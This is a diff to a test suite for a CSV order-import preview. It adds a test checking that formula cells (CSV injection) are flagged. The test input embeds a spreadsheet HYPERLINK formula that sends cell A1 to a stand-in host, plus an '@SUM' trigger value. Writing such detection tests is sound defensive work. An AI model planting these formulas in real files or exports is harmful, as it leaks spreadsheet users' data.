@@ -75,6 +75,14 @@ describe('CSV import preview', () => {
     expect(p.rows[0].warnings[0].code).toBe('size_unusual');
   });
 
+  it('points out cells a spreadsheet would run as formulas (OWASP CSV Injection)', () => {
+    const evil = good.replace('Harbour Rowing Club', '"=HYPERLINK(""http://x/?""&A1,""Open"")"').replace('Club crest', '@SUM(1)');
+    const p = previewOrderImport([header, evil, good].join('\n'));
+    expect(p.rows[0].formulaCells.map((f) => f.column)).toEqual(['customer', 'title']);
+    expect(p.rows[0].formulaCells[0].message).toMatch(/formula/);
+    expect(p.rows[1].formulaCells).toEqual([]);
+  });
+
   it('refuses files that are not order CSVs', () => {
     expect(previewOrderImport('').fileErrors).toEqual(['The file is empty']);
     expect(previewOrderImport('%PDF-1.7\n1 0 obj').fileErrors.length).toBeGreaterThan(0);
